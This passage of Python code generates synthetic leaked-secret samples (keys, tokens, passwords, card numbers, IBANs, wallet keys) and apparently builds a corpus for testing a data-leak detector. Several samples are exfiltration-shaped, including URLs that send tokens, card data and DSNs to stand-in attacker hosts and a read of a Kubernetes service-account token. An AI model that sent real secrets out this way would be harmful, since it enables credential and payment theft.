            P('gcp-service-account-key', 'body', json.dumps({'env': {'GOOGLE_CREDENTIALS': json.dumps(o), 'GOOGLE_PROJECT': proj}}),
              'application/json', 'gzip', tok=tok)


def gen_private_keys():
    C = 'private-key'
    # 1 DER base64 in JSON
    d = b64(rsa_pkcs8())
    P(C, 'body', json.dumps({'kid': rhex(16), 'alg': 'RS256', 'use': 'sig', 'private_key_der_b64': d}), 'application/json', tok=d[:60])
    # 2 openssh key body base64 in env file
    blob, _, _ = openssh_ed25519(f'{pick(USERS)}@{pick(["laptop", "build-01", "bastion"])}')
    v = b64(blob)
    b, ct = mp([('note', 'ci vars')], [('file', 'ci.env', 'text/plain', f'DEPLOY_HOST=10.0.{R.randint(0, 9)}.{R.randint(2, 250)}\nDEPLOY_SSH_KEY_B64={v}\n')])
    P(C, 'body', b, ct, tok=v[:60])
    # 3 RSA JWK private
    jwk = {'kty': 'RSA', 'kid': ruuid(), 'use': 'sig', 'alg': 'RS256', 'n': b64u(rb(256)), 'e': 'AQAB', 'd': b64u(rb(256)),
           'p': b64u(rb(128)), 'q': b64u(rb(128)), 'dp': b64u(rb(128)), 'dq': b64u(rb(128)), 'qi': b64u(rb(128))}
    P(C, 'body', json.dumps({'keys': [jwk]}, indent=2), 'application/json', tok=jwk['d'])
    # 4 EC JWK private
    jwk = {'kty': 'EC', 'crv': 'P-256', 'x': b64u(rb(32)), 'y': b64u(rb(32)), 'd': b64u(rb(32)), 'kid': rhex(8)}
    P(C, 'body', json.dumps({'signing_key': jwk, 'issuer': f'https://auth.{pick(CORP)}'}), 'application/json', tok=jwk['d'])
    # 5 .NET RSAKeyValue XML
    f = {k: b64(rb(n)) for k, n in [('Modulus', 256), ('P', 128), ('Q', 128), ('DP', 128), ('DQ', 128), ('InverseQ', 128), ('D', 256)]}
    x = ('<RSAKeyValue><Modulus>{Modulus}</Modulus><Exponent>AQAB</Exponent><P>{P}</P><Q>{Q}</Q><DP>{DP}</DP><DQ>{DQ}</DQ>'
         '<InverseQ>{InverseQ}</InverseQ><D>{D}</D></RSAKeyValue>').format(**f)
    P(C, 'body', x, 'application/xml', tok=f['D'])
    # 6 escaped JSON string with line-wrapped PKCS#1 body
    k = wrap(b64(rsa_pkcs1())) + '\n'
    P(C, 'body', json.dumps({'name': 'deploy', 'ssh_private_key': k, 'host': f'git.{pick(CORP)}'}), 'application/json', tok=k.split('\n')[2])
    # 7 YAML block scalar, openssh body lines
    blob, _, _ = openssh_ed25519('deploy@ci')
    lines = wrap(b64(blob), 70).split('\n')
    y = 'deploy:\n  user: deploy\n  host: 10.20.0.14\n  private_key_body: |\n' + ''.join(f'    {l}\n' for l in lines)
    P(C, 'body', y, 'application/yaml', tok=lines[1])
    # 8 properties single line PKCS#8 (EC)
    d = b64(ec_sec1())
    P(C, 'body', f'jwt.issuer=https://auth.{pick(CORP)}\njwt.signing.algorithm=ES256\njwt.signing.private-key={d}\n', 'text/plain', tok=d)
    # 9 PuTTY ppk in chat
    _, pubblob, priv = openssh_ed25519('x')
    pl = wrap(b64(pubblob)).split('\n')
    ppk = (f'PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: eddsa-key-{iso()[:10].replace("-", "")}\n'
           f'Public-Lines: {len(pl)}\n' + '\n'.join(pl) + f'\nPrivate-Lines: 1\n{b64(sshstr(priv))}\nPrivate-MAC: {rhex(64)}\n')
    P(C, 'body', chat_json(f'WinSCP rejects this key file, can you convert it to OpenSSH format?\n\n{ppk}'), 'application/json', tok=b64(sshstr(priv)))
    # 10 binary DER upload (Ed25519 PKCS#8 + RSA)
    der_bytes = pick([ed25519_pkcs8(), rsa_pkcs8()])
    b, ct = mp([('purpose', 'tls')], [('key', pick(['server.key.der', 'signing.der', 'tls-key.der']), 'application/octet-stream', der_bytes)])
    P(C, 'body', b.encode('utf-8') if isinstance(b, str) else b, ct)


def gen_jwt():
    C = 'jwt'
    t = epoch()
    iss = f'https://auth.{pick(CORP)}/'
    P(C, 'header', 'Authorization: Bearer ' + make_jwt('RS256', {'iss': iss, 'sub': f'auth0|{rhex(24)}', 'aud': f'https://api.{pick(CORP)}',
                                                                'iat': t, 'exp': t + 86400, 'scope': 'openid profile email read:orders'}, kid=rs(22, B64U)))
    P(C, 'header', 'Authorization: Bearer ' + make_jwt('HS256'))
    j = make_jwt('HS256', {'user_id': R.randint(1000, 99999), 'role': 'admin', 'iat': t, 'exp': t + 7200})
    P(C, 'header', f'Cookie: _ga=GA1.1.{rdig(10)}.{t}; session={j}; theme=dark', tok=j)
    j = make_jwt('RS256', {'iss': 'https://accounts.google.com', 'azp': f'{rdig(12)}.apps.googleusercontent.com', 'aud': f'{rdig(12)}.apps.googleusercontent.com',
                           'sub': rdig(21), 'email': person()[2], 'email_verified': True, 'iat': t, 'exp': t + 3600}, kid=rhex(40))
    P(C, 'url', f'https://{pick(EXFIL)}/cb?id_token={j}&state={rs(16)}', tok=j)
    j = make_jwt('ES256', {'sub': ruuid(), 'sid': ruuid(), 'iat': t, 'exp': t + 900})
    P(C, 'header', f'X-Auth-Token: {j}', tok=j)
    j = make_jwt('RS256', {'aud': ['https://kubernetes.default.svc.cluster.local'], 'exp': t + 31536000, 'iat': t,
                           'iss': 'https://kubernetes.default.svc.cluster.local',
                           'kubernetes.io': {'namespace': pick(ENVS), 'pod': {'name': f'{pick(APPS)}-{rs(10, LOW + DIG)}-{rs(5, LOW + DIG)}', 'uid': ruuid()},
                                             'serviceaccount': {'name': 'deployer', 'uid': ruuid()}},
                           'nbf': t, 'sub': 'system:serviceaccount:prod:deployer'}, kid=rs(43, B64U))
    P(C, 'body', tool_result_json('cat /var/run/secrets/kubernetes.io/serviceaccount/token', j), 'application/json', tok=j)
    j = make_jwt('HS256')
    P(C, 'body', json.dumps({'localStorage': {'auth.token': j, 'theme': 'dark', 'lang': 'en-US'}, 'url': f'https://app.{pick(CORP)}/dashboard'}),
      'application/json', tok=j)
    j = make_jwt('RS256', kid=rhex(8))
    P(C, 'body', urlencode([('token', j), ('token_type_hint', 'access_token')]), 'application/x-www-form-urlencoded', tok=j)
    j = make_jwt('HS256', {'sub': str(R.randint(1, 9999)), 'tenant': pick(ORGS), 'iat': t})
    P(C, 'body', f'{iso(t, True)} DEBUG http outgoing GET /api/v2/reports headers="Authorization: Bearer {j}" status=200\n', 'text/plain', tok=j)
    j = make_jwt('RS256', {'iss': iss, 'sub': rhex(24), 'exp': t + 3600, 'scope': 'offline_access'})
    P(C, 'body', json.dumps({'access_token': j, 'token_type': 'Bearer', 'expires_in': 3600}), 'application/json', 'gzip', tok=j)


def db_host():
    return pick([f'{pick(APPS)}.{rs(12, LOW + DIG)}.{pick(["us-east-1", "eu-west-1"])}.rds.amazonaws.com', f'db-{pick(ENVS)}.internal',
                 f'10.{R.randint(0, 30)}.{R.randint(0, 255)}.{R.randint(2, 250)}', f'{pick(APPS)}-pg.postgres.database.azure.com'])


def db_url(pw):
    u = pick(['app', 'svc_' + pick(APPS).replace('-', '_'), 'admin', 'readonly', 'etl'])
    q = quote(pw, safe='')
    k = R.randint(0, 5)
    if k == 0:
        return f'postgres://{u}:{q}@{db_host()}:5432/{pick(["app", "orders", "ledger"])}?sslmode=require'
    if k == 1:
        return f'mysql://{u}:{q}@{db_host()}:3306/{pick(["shop", "wp", "crm"])}'
    if k == 2:
        return f'mongodb+srv://{u}:{q}@cluster0.{rs(5, LOW + DIG)}.mongodb.net/{pick(["prod", "events"])}?retryWrites=true&w=majority'
    if k == 3:
        return f'redis://default:{q}@{db_host()}:6379/0'
    if k == 4:
        return f'amqps://{u}:{q}@{pick(["rabbit", "mq"])}.{pick(CORP)}:5671/{pick(["vhost", "jobs"])}'
    return f'postgresql+psycopg2://{u}:{q}@{db_host()}:5432/analytics'


def gen_db():
    C = 'database-connection-string'
    pw = make_password()
    cs = f'Server=tcp:{pick(APPS)}-sql.database.windows.net,1433;Initial Catalog={pick(["orders", "crm"])};Persist Security Info=False;User ID=sqladmin;Password={pw};MultipleActiveResultSets=False;Encrypt=True;Connection Timeout=30;'
    P(C, 'body', json.dumps({'Logging': {'LogLevel': {'Default': 'Information'}}, 'ConnectionStrings': {'DefaultConnection': cs}}, indent=2), 'application/json', tok=pw)
    pw = make_password()
    P(C, 'body', f'spring.datasource.url=jdbc:postgresql://{db_host()}:5432/app?user=app&password={quote(pw, safe="")}\nspring.jpa.hibernate.ddl-auto=validate\n', 'text/plain', tok=pw)
    pw = make_password()
    u = db_url(pw)
    sch = f'datasource db {{\n  provider = "postgresql"\n  url      = "{u}"\n}}\n\ngenerator client {{\n  provider = "prisma-client-js"\n}}\n'
    P(C, 'body', json.dumps({'files': {'schema.prisma': {'content': sch}}, 'public': False}), 'application/json', tok=pw)
    pw = make_password()
    P(C, 'url', f'https://{pick(EXFIL)}/connect?dsn={quote(db_url(pw), safe="")}&t={epoch()}', tok=pw)
    pw = make_password()
    P(C, 'body', f'services:\n  worker:\n    image: {pick(APPS)}:latest\n    environment:\n      MONGO_URL: "{db_url(pw)}"\n      QUEUE: default\n', 'application/yaml', tok=pw)
    pw = make_password()
    P(C, 'body', ('Traceback (most recent call last):\n  File "/app/db.py", line 18, in connect\n    engine = create_engine(settings.DATABASE_URL)\n'
                  f'sqlalchemy.exc.OperationalError: (psycopg2.OperationalError) could not connect to server\n'
                  f'[SQL: SELECT 1]\n(url: {db_url(pw)})\n'), 'text/plain', tok=pw)
    out = []

    def mkspec():
        p = make_password()
        return spec('database', [(pick(['DATABASE_URL', 'DB_URL', 'MONGODB_URI', 'REDIS_URL', 'BROKER_URL']), 'database_url', db_url(p))],
                    api=db_host(), tok=p)
    POS.extend(run_vendor(C, 4, mkspec))


def gen_url_creds():
    C = 'url-credentials'
    for tpl in [lambda u, p: f'https://{u}:{p}@nexus.{pick(CORP)}/repository/maven-releases/com/acme/{pick(APPS)}/1.{R.randint(0, 9)}.0/app.jar',
                lambda u, p: f'https://{u}:{p}@jenkins.{pick(CORP)}/job/{pick(APPS)}/buildWithParameters?ENV=prod',
                lambda u, p: f'http://{u}:{p}@10.0.{R.randint(0, 9)}.{R.randint(2, 250)}:9200/_cat/indices?v',
                lambda u, p: f'https://{u}:{p}@registry.{pick(CORP)}/v2/_catalog?n=100']:
        pw = make_password()
        P(C, 'url', tpl(pick(USERS + ['admin', 'deploy', 'ci']), quote(pw, safe='')), tok=pw)
    pw = make_password()
    b, ct = mp([], [('file', '.git-credentials', 'text/plain', f'https://{pick(USERS)}:{quote(pw, safe="")}@git.{pick(CORP)}\n')])
    P(C, 'body', b, ct, tok=pw)
    pw = make_password()
    P(C, 'body', f'[global]\ntimeout = 60\nindex-url = https://{pick(USERS)}:{quote(pw, safe="")}@pypi.{pick(CORP)}/simple\n', 'text/plain', tok=pw)
    pw = make_password()
    P(C, 'body', json.dumps({'url': f'https://hook:{quote(pw, safe="")}@ci.{pick(CORP)}/hooks/deploy', 'events': ['push', 'release'], 'active': True}),
      'application/json', tok=pw)
    pw = make_password()
    P(C, 'body', json.dumps({'registry-mirrors': [f'https://mirror:{quote(pw, safe="")}@mirror.{pick(CORP)}'], 'log-level': 'warn'}, indent=2),
      'application/json', tok=pw)
    pw = make_password()
    P(C, 'body', chat_json(f'git clone https://{pick(USERS)}:{quote(pw, safe="")}@bitbucket.{pick(CORP)}/scm/{pick(REPOS)}/{pick(REPOS)}.git fails with "SSL certificate problem", how do I fix it?'),
      'application/json', tok=pw)
    pw = make_password()
    P(C, 'body', json.dumps({'repositories': [{'type': 'composer', 'url': f'https://{pick(USERS)}:{quote(pw, safe="")}@repo.packagist.com/{pick(ORGS)}/'}],
                             'require': {'monolog/monolog': '^3.5'}}, indent=4), 'application/json', tok=pw)


def gen_basic():
    C = 'basic-auth-credentials'
    for i in range(6):
        u, p = pick(USERS + ['admin', 'api', 'svc-' + pick(APPS)]), make_password()
        name = 'Proxy-Authorization' if i == 5 else 'Authorization'
        P(C, 'header', f'{name}: {basic(u, p)}', tok=p)
    u, p = pick(USERS), make_password()
    o = {'log': {'version': '1.2', 'entries': [{'request': {'method': 'POST', 'url': f'https://jira.{pick(CORP)}/rest/api/2/issue',
                                                            'headers': [{'name': 'Authorization', 'value': basic(u, p)}]}}]}}
    P(C, 'body', json.dumps(o), 'application/json', tok=p)
    u, p = pick(USERS), make_password()
    P(C, 'body', json.dumps({'name': 'legacy-erp', 'endpoint': f'https://erp.{pick(CORP)}/odata', 'headers': {'Authorization': basic(u, p), 'Accept': 'application/json'}}),
      'application/json', tok=p)
    u, p = pick(USERS), make_password()
    P(C, 'body', chat_json(f"This returns 403, why?\n\ncurl -s -H 'Authorization: {basic(u, p)}' https://grafana.{pick(CORP)}/api/dashboards/home"),
      'application/json', tok=p)
    u, p = pick(USERS), make_password()
    P(C, 'body', f'location /metrics {{\n    proxy_pass http://127.0.0.1:9100;\n    proxy_set_header Authorization "{basic(u, p)}";\n}}\n', 'text/plain', tok=p)


def opaque_token():
    return pick([rs(40), rs(64, B64U), rhex(64), b64(rb(48)), rs(32) + '.' + rs(43, B64U)])


def gen_bearer():
    C = 'bearer-token'
    for _ in range(5):
        t = opaque_token()
        P(C, 'header', f'Authorization: Bearer {t}', tok=t)
    t = opaque_token()
    P(C, 'url', f'https://api.{pick(CORP)}/v2/export?format=csv&access_token={quote(t, safe="")}', tok=t)
    t, r = opaque_token(), opaque_token()
    P(C, 'body', json.dumps({'access_token': t, 'token_type': 'bearer', 'expires_in': 7200, 'refresh_token': r, 'scope': 'read write'}),
      'application/json', tok=t)
    t = opaque_token()
    P(C, 'body', json.dumps({'info': {'name': f'{pick(APPS)} API', 'schema': 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json'},
                             'auth': {'type': 'bearer', 'bearer': [{'key': 'token', 'value': t, 'type': 'string'}]}, 'item': []}),
      'application/json', tok=t)
    t = opaque_token()
    P(C, 'body', chat_json(f'curl -H "Authorization: Bearer {t}" https://api.{pick(CORP)}/v1/invoices returns an empty list, is the header right?'),
      'application/json', tok=t)
    t = opaque_token()
    P(C, 'body', f'{iso(ms=True)} [http] > GET /v1/accounts HTTP/1.1\n{iso(ms=True)} [http] > Authorization: Bearer {t}\n{iso(ms=True)} [http] < 200 OK\n',
      'text/plain', 'deflate', tok=t)


GENERIC_NAMES = [('JWT_SECRET', 'jwt_secret', lambda: rhex(64)), ('SESSION_SECRET', 'session_secret', lambda: rs(48)),
                 ('WEBHOOK_SECRET', 'webhook_secret', lambda: rs(40, B64U)), ('ENCRYPTION_KEY', 'encryption_key', lambda: b64(rb(32))),
                 ('API_SECRET', 'api_secret', lambda: rs(40)), ('CLIENT_SECRET', 'client_secret', lambda: rs(48, B64U)),
                 ('SIGNING_KEY', 'signing_key', lambda: rhex(64)), ('NEXTAUTH_SECRET', 'nextauth_secret', lambda: b64(rb(32))),
                 ('COOKIE_SECRET', 'cookie_secret', lambda: rs(32)), ('SECRET_KEY_BASE', 'secret_key_base', lambda: rhex(128)),
                 ('APP_SECRET', 'app_secret', lambda: rhex(32)), ('PRIVATE_API_KEY', 'private_api_key', lambda: rs(32)),
                 ('INTERNAL_API_TOKEN', 'internal_api_token', lambda: rs(36, B64U)), ('HMAC_KEY', 'hmac_key', lambda: b64(rb(48)))]


def gen_generic():
    C = 'generic-secret'
    v = rs(50, LOW + DIG + '!@#%^*(-_=+)')
    P(C, 'body', json.dumps({'files': {'settings.py': {'content': f'import os\n\nDEBUG = False\nSECRET_KEY = "{v}"\nALLOWED_HOSTS = ["{pick(CORP)}"]\n'}}}),
      'application/json', tok=v)
    v = 'base64:' + b64(rb(32))
    b, ct = mp([], [('env', '.env', 'text/plain', f'APP_NAME=Laravel\nAPP_ENV=production\nAPP_KEY={v}\nAPP_DEBUG=false\n')])
    P(C, 'body', b, ct, tok=v)
    v = rhex(32)
    b, ct = mp([('path', 'config/master.key')], [('file', 'master.key', 'application/octet-stream', v)])
    P(C, 'body', b, ct, tok=v)
    v = rs(32)
    P(C, 'header', f'X-API-Key: {v}', tok=v)
    v = rhex(64)
    P(C, 'header', f'X-Api-Secret: {v}', tok=v)
    v = rs(32)
    P(C, 'url', f'https://reports.{pick(CORP)}/api/v1/export?api_key={v}&format=json', tok=v)
    v = rs(40, B64U)
    P(C, 'url', f'https://auth.{pick(CORP)}/oauth/token?grant_type=client_credentials&client_id={rs(20, LOW + DIG)}&client_secret={v}', tok=v)
    v = rs(44, B64U)
    P(C, 'body', chat_json(f'Our webhook verification fails. The signing secret in the dashboard is {v} and we compute HMAC-SHA256 over the raw body. What could be wrong?'),
      'application/json', tok=v)

    def mkspec():
        chosen = R.sample(GENERIC_NAMES, R.randint(1, 2))
        pairs = [(e, k, f()) for e, k, f in chosen]
        return spec(pick(APPS), pairs, api=f'api.{pick(CORP)}', tok=pairs[-1][2])
    POS.extend(run_vendor(C, 8, mkspec))


PW_NAMES = [('DB_PASSWORD', 'db_password'), ('POSTGRES_PASSWORD', 'postgres_password'), ('SMTP_PASSWORD', 'smtp_password'),
            ('REDIS_PASSWORD', 'redis_password'), ('ADMIN_PASSWORD', 'admin_password'), ('MYSQL_ROOT_PASSWORD', 'mysql_root_password'),
            ('LDAP_BIND_PASSWORD', 'bind_password'), ('KEYSTORE_PASSWORD', 'keystore_password'), ('RABBITMQ_DEFAULT_PASS', 'rabbitmq_password')]


def gen_password():
    C = 'password'
    u, p = pick(USERS), make_password()
    P(C, 'body', urlencode([('username', u), ('password', p), ('remember', '1'), ('next', '/dashboard')]), 'application/x-www-form-urlencoded', tok=p)
    p = make_password()
    P(C, 'body', json.dumps({'email': person()[2], 'password': p, 'remember_me': True}), 'application/json', tok=p)
    p = make_password()
    P(C, 'url', f'https://{pick(["portal", "vpn", "intranet"])}.{pick(CORP)}/login?username={pick(USERS)}&password={quote(p, safe="")}', tok=p)
    p = make_password()
    b, ct = mp([], [('file', '.pgpass', 'text/plain', f'{db_host()}:5432:app:app:{p}\n')])
    P(C, 'body', b, ct, tok=p)
    p = make_password()
    P(C, 'body', (f'<settings>\n  <servers>\n    <server>\n      <id>releases</id>\n      <username>{pick(USERS)}</username>\n'
                  f'      <password>{xesc(p)}</password>\n    </server>\n  </servers>\n</settings>\n'), 'application/xml', tok=p)
    p = make_password()
    P(C, 'body', f'machine api.{pick(CORP)}\n  login {pick(USERS)}\n  password {p}\n', 'text/plain', tok=p)
    p = make_password()
    P(C, 'body', chat_json(f'mysql -u root -p{p} -h 127.0.0.1 gives "Access denied for user root@localhost". I am sure the password {p} is right. Ideas?'),
      'application/json', tok=p)
    p = make_password()
    P(C, 'body', f'[client]\nuser=root\npassword={p}\nhost=127.0.0.1\n', 'text/plain', 'gzip', tok=p)
    p = make_password()
    P(C, 'body', json.dumps({'files': {'wp-config.php': {'content': f"<?php\ndefine( 'DB_NAME', 'wordpress' );\ndefine( 'DB_USER', 'wp' );\ndefine( 'DB_PASSWORD', '{p}' );\ndefine( 'DB_HOST', 'localhost' );\n"}}}),
      'application/json', tok=p)

    def mkspec():
        e, k = pick(PW_NAMES)
        p = make_password()
        return spec(pick(APPS), [(e, k, p)], api=f'api.{pick(CORP)}', tok=p)
    POS.extend(run_vendor(C, 7, mkspec))


def gen_cards():
    C = 'credit-card-number'
    for i in range(12):
        num, brand = card_number()
        f = card_fmt(num)
        mm, yy, cvc = f'{R.randint(1, 12):02d}', str(R.randint(25, 31)), rs(4 if brand == 'amex' else 3, DIG)
        name = ' '.join(x.capitalize() for x in person()[:2])
        if i == 0:
            P(C, 'body', json.dumps({'amount': R.randint(500, 90000), 'currency': 'usd', 'payment_method': {'card': {'number': num, 'exp_month': int(mm), 'exp_year': 2000 + int(yy), 'cvc': cvc, 'name': name}}}), 'application/json', tok=num)
        elif i == 1:
            P(C, 'body', urlencode([('cardholder', name), ('card_number', f), ('exp', f'{mm}/{yy}'), ('cvv', cvc)]), 'application/x-www-form-urlencoded', tok=f)
        elif i == 2:
            P(C, 'url', f'https://{pick(EXFIL)}/b.gif?cc={num}&e={mm}{yy}&c={cvc}', tok=num)
        elif i == 3:
            P(C, 'body', chat_json(f'Book the cheapest refundable room in Lisbon for May 3-5 and pay with my card {f}, exp {mm}/{yy}, security code {cvc}, name {name}.'), 'application/json', tok=f)
        elif i == 4:
            rows = ['order_id,customer,card_number,exp,amount']
            for _ in range(3):
                n2, _b = card_number()
                rows.append(f'{rdig(8)},{" ".join(x.capitalize() for x in person()[:2])},{n2},{R.randint(1, 12):02d}/{R.randint(25, 30)},{R.randint(5, 900)}.{rs(2, DIG)}')
            rows.append(f'{rdig(8)},{name},{num},{mm}/{yy},{R.randint(5, 900)}.{rs(2, DIG)}')
            P(C, 'body', '\n'.join(rows) + '\n', 'text/csv', tok=num)
        elif i == 5:
            P(C, 'body', f'From: {person()[2]}\r\nTo: {person()[2]}\r\nSubject: card for the conference booking\r\nDate: {rfc2822()}\r\n\r\nHi, please use the company card:\r\n{f}\r\nvalid until {mm}/{yy}, CVC {cvc}\r\n', 'message/rfc822', tok=f)
        elif i == 6:
            P(C, 'body', f'<?xml version="1.0"?>\n<PaymentRequest><Amount>{R.randint(10, 999)}.00</Amount><Card><Number>{num}</Number><Expiry>{mm}{yy}</Expiry><CVV>{cvc}</CVV><Holder>{name}</Holder></Card></PaymentRequest>\n', 'application/xml', tok=num)
        elif i == 7:
            P(C, 'body', f'{iso(ms=True)} ERROR payment.gateway charge failed: card={num} exp={mm}/{yy} reason=do_not_honor order={rdig(9)}\n', 'text/plain', tok=num)
        elif i == 8:
            P(C, 'body', json.dumps({'cart': [{'sku': rs(8, UP + DIG), 'qty': 1}], 'billing': {'name': name, 'pan': num, 'expiry': f'{mm}/{yy}'}}), 'application/json', 'gzip', tok=num)
        elif i == 9:
            b, ct = mp([('name_on_card', name), ('cc_number', f), ('cc_exp', f'{mm}/{yy}'), ('cc_cvc', cvc)])
            P(C, 'body', b, ct, tok=f)
        elif i == 10:
            P(C, 'body', json.dumps({'ticket': {'subject': 'Refund not received', 'description': f'I was charged twice on my card {f} on {iso()[:10]}. Please refund one of the charges.', 'requester': person()[2]}}), 'application/json', tok=f)
        else:
            lines = [json.dumps({'ts': iso(), 'txn': rdig(10), 'status': 'approved', 'card': num, 'amount': R.randint(100, 9999)})]
            P(C, 'body', '\n'.join(lines) + '\n', 'application/x-ndjson', 'deflate', tok=num)


def gen_iban():
    C = 'iban'
    for i in range(8):
        ib = iban()
        assert iban_ok(ib)
        name = ' '.join(x.capitalize() for x in person()[:2])
        if i == 0:
            x = (f'<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"><CstmrCdtTrfInitn>'
                 f'<GrpHdr><MsgId>{rs(12, UP + DIG)}</MsgId><CreDtTm>{iso()[:19]}</CreDtTm><NbOfTxs>1</NbOfTxs></GrpHdr><PmtInf><CdtTrfTxInf>'
                 f'<Amt><InstdAmt Ccy="EUR">{R.randint(100, 9000)}.00</InstdAmt></Amt><Cdtr><Nm>{name}</Nm></Cdtr><CdtrAcct><Id><IBAN>{ib}</IBAN></Id></CdtrAcct>'
                 f'</CdtTrfTxInf></PmtInf></CstmrCdtTrfInitn></Document>\n')
            P(C, 'body', x, 'application/xml', tok=ib)
        elif i == 1:
            P(C, 'body', json.dumps({'payout': {'beneficiary': name, 'iban': ib, 'amount': R.randint(100, 5000), 'currency': 'EUR'}}), 'application/json', tok=ib)
        elif i == 2:
            P(C, 'body', urlencode([('account_holder', name), ('iban', ib), ('bic', rs(4, UP) + ib[:2] + rs(2, UP + DIG))]), 'application/x-www-form-urlencoded', tok=ib)
        elif i == 3:
            s = iban_spaced(ib)
            P(C, 'body', f'Subject: Updated bank details\r\nFrom: {person()[2]}\r\nTo: {person()[2]}\r\n\r\nHello, please send future invoices payments to\r\n{name}\r\nIBAN: {s}\r\n', 'message/rfc822', tok=s)
        elif i == 4:
            rows = ['employee_id,name,iban,net_salary'] + [f'{rdig(5)},{" ".join(x.capitalize() for x in person()[:2])},{iban()},{R.randint(2000, 7000)}.00' for _ in range(2)]
            rows.append(f'{rdig(5)},{name},{ib},{R.randint(2000, 7000)}.00')
            P(C, 'body', '\n'.join(rows) + '\n', 'text/csv', tok=ib)
        elif i == 5:
            s = iban_spaced(ib)
            P(C, 'body', chat_json(f'Write a polite email to our landlord confirming the rent will go to {s} from next month.'), 'application/json', tok=s)
        elif i == 6:
            P(C, 'url', f'https://{pick(EXFIL)}/api/v1/acct?iban={ib}&name={quote(name)}', tok=ib)
        else:
            P(C, 'body', f'vendor:\n  name: {name}\n  bank:\n    iban: {ib}\n    currency: EUR\n', 'application/yaml', tok=ib)


def btc_address():
    k = R.randint(0, 3)
    if k == 0:
        return b58check(b'\x00' + rb(20))
    if k == 1:
        return b58check(b'\x05' + rb(20))
    if k == 2:
        return segwit_addr(0, rb(20))
    return segwit_addr(1, rb(32))


def gen_crypto():
    for i in range(5):
        a = btc_address()
        if i == 0:
            P('bitcoin-address', 'body', json.dumps({'asset': 'BTC', 'network': 'bitcoin', 'address': a, 'amount': f'0.{rs(4, DIG)}'}), 'application/json', tok=a)
        elif i == 1:
            P('bitcoin-address', 'body', chat_json(f'Draft a message to the supplier saying we will pay the deposit to {a} today.'), 'application/json', tok=a)
        elif i == 2:
            P('bitcoin-address', 'url', f'https://{pick(EXFIL)}/w?addr={a}&src=clip', tok=a)
        elif i == 3:
            P('bitcoin-address', 'body', urlencode([('withdraw_address', a), ('amount', f'0.{rs(3, DIG)}'), ('otp', rs(6, DIG))]), 'application/x-www-form-urlencoded', tok=a)
        else:
            P('bitcoin-address', 'body', f'{iso(ms=True)} clipboard changed: {a}\n', 'text/plain', tok=a)
    for i in range(5):
        a = eip55(rb(20))
        if i == 0:
            P('ethereum-address', 'body', json.dumps({'chainId': 1, 'to': a, 'value': hex(R.randint(10 ** 15, 10 ** 18)), 'token': 'USDC'}), 'application/json', tok=a)
        elif i == 1:
            P('ethereum-address', 'body', chat_json(f'Is this the right address format for sending ETH? {a}'), 'application/json', tok=a)
        elif i == 2:
            P('ethereum-address', 'url', f'https://{pick(EXFIL)}/r?wallet={a}&chain=eth', tok=a)
        elif i == 3:
            P('ethereum-address', 'body', urlencode([('payout_wallet', a), ('network', 'ERC20')]), 'application/x-www-form-urlencoded', tok=a)
        else:
            P('ethereum-address', 'body', f'treasury:\n  payout_wallet: "{a}"\n  network: mainnet\n', 'application/yaml', tok=a)
    C = 'crypto-private-key'
    w = b58check(b'\x80' + rb(32) + b'\x01')
    P(C, 'body', json.dumps({'wallet': 'legacy', 'keys': [{'wif': w, 'label': 'cold-1'}]}), 'application/json', tok=w)
    w = b58check(b'\x80' + rb(32))
    P(C, 'body', chat_json(f'I imported the private key {w} into Electrum but the balance shows 0, why?'), 'application/json', tok=w)
    x = b58check(bytes.fromhex('0488ade4') + b'\x00' + b'\x00' * 8 + rb(32) + b'\x00' + rb(32))
    b, ct = mp([], [('file', 'wallet-backup.txt', 'text/plain', f'master xprv:\n{x}\n')])
    P(C, 'body', b, ct, tok=x)
    k = '0x' + rhex(64)
    P(C, 'body', f'RPC_URL=https://mainnet.infura.io/v3/{rhex(32)}\nPRIVATE_KEY={k}\nCHAIN_ID=1\n', 'text/plain', tok=k)
    k = rhex(64)
    P(C, 'body', json.dumps({'files': {'hardhat.config.js': {'content': f'module.exports = {{\n  solidity: "0.8.24",\n  networks: {{ sepolia: {{ url: process.env.RPC, accounts: ["0x{k}"] }} }}\n}};\n'}}}),
      'application/json', tok=k)
    x = b58check(bytes.fromhex('0488ade4') + b'\x00' + b'\x00' * 8 + rb(32) + b'\x00' + rb(32))
    P(C, 'body', json.dumps({'keystore': {'type': 'bip32', 'xprv': x, 'seed_type': 'bip39'}, 'wallet_type': 'standard', 'use_encryption': False}), 'application/json', tok=x)


# ----------------------------------------------------------------------------
# exfiltration of data with no vendor shape
# ----------------------------------------------------------------------------
def sensitive_text():
    k = R.randint(0, 7)
    if k == 0:
        users = ['root:x:0:0:root:/root:/bin/bash', 'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
                 'www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin', 'postgres:x:114:120:PostgreSQL administrator:/var/lib/postgresql:/bin/bash']
        users += [f'{u}:x:{1000 + i}:{1000 + i}:{u.capitalize()},,,:/home/{u}:/bin/bash' for i, u in enumerate(R.sample(USERS, 3))]
        return '\n'.join(users) + '\n'
    if k == 1:
        al = './' + DIG + UP + LOW
        return ''.join(f'{u}:$6${rs(16, al)}${rs(86, al)}:{R.randint(19000, 19900)}:0:99999:7:::\n' for u in ['root'] + R.sample(USERS, 2))
    if k == 2:
        cmds = [f'ssh deploy@10.0.{R.randint(0, 9)}.{R.randint(2, 250)}', 'kubectl get pods -n prod', 'sudo systemctl restart nginx',
                f'psql -h {db_host()} -U app app', 'git pull --rebase', 'docker compose up -d', f'scp backup.sql {pick(USERS)}@bastion:/tmp/',
                'terraform plan -out tf.plan', 'history | grep ssh']
        return '\n'.join(R.sample(cmds, 6)) + '\n'
    if k == 3:
        u = pick(USERS)
        return (f'uid=1000({u}) gid=1000({u}) groups=1000({u}),27(sudo),999(docker)\nhost={pick(["build-agent", "ws", "prod-api"])}-{R.randint(1, 40):02d}\n'
                f'Linux 6.5.0-{R.randint(10, 40)}-generic x86_64\ninet 10.{R.randint(0, 50)}.{R.randint(0, 255)}.{R.randint(2, 250)}/24\n'
                f'cwd=/home/{u}/src/{pick(REPOS)}\n')
    if k == 4:
        rows = ['id,name,email,phone,dob']
        for _ in range(3):
            f, l, e = person()
            rows.append(f'{rdig(6)},{f.capitalize()} {l.capitalize()},{e},+1-{rdig(3)}-555-{rs(4, DIG)},19{R.randint(50, 99)}-{R.randint(1, 12):02d}-{R.randint(1, 28):02d}')
